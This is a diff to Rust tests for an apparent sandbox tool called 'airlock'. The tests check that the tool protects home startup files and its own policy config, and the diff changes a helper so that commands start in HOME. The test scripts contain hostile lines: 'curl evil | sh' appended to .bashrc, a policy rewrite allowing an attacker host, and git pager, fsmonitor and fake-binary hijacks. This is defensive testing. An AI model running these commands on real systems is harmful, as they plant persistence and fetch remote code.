@@ -521,11 +521,9 @@ fn home_as_the_workspace_protects_its_startup_files_and_airlocks_own() {
         f.write("~/.bashrc", "# rc\n");
         f.write("~/.config/airlock/policy.toml", "[network]\nallow = []\n");
         who.prepare(&f);
-        let home = f.home.to_str().unwrap();
-        let out = sandboxed(
+        let out = in_home(
             &f,
             who,
-            &["--network", "none", "--workspace", home],
             "mv .config .config-x; mkdir -p .config-y/airlock; echo 'allow=[\"evil.test\"]' > .config-y/airlock/policy.toml; \
              mv .config-y .config 2>/dev/null; echo 'curl evil | sh' >> .bashrc; rm -f .bashrc; \
              echo '[core] pager = evil' > .gitconfig; mkdir -p .local/bin && echo evil > .local/bin/git; \
@@ -569,7 +567,10 @@ fn home_with_dotfiles(who: Who, file: &str, text: &str, link: &str, target: &str
 /// `script` run with HOME as the workspace.
 fn in_home(f: &Fixture, who: Who, script: &str) -> Out {
     let home = f.home.to_str().unwrap();
-    sandboxed(f, who, &["--network", "none", "--workspace", home], script)
+    // Started there: a command runs where it is started (SPEC §2).
+    let mut c = f.command(&["--network", "none", "--workspace", home], script);
+    c.current_dir(&f.home);
+    run(&mut who.wrap(c))
 }
 
 #[test]
@@ -791,7 +792,8 @@ fn linked_startup_files_and_xdg_config_are_protected() {
              printf '[core]\n\tfsmonitor = evil\n' >> .gitconfig; \
              mkdir -p xdg/direnv && echo evil > xdg/direnv/direnvrc",
         );
-        cmd.env("XDG_CONFIG_HOME", f.home.join("xdg"));
+        cmd.env("XDG_CONFIG_HOME", f.home.join("xdg"))
+            .current_dir(&f.home);
         let out = run(&mut who.wrap(cmd));
         let ctx = format!("{who:?}: {}", show(&out));
         assert!(out.stdout.contains("wrote"), "{ctx}");
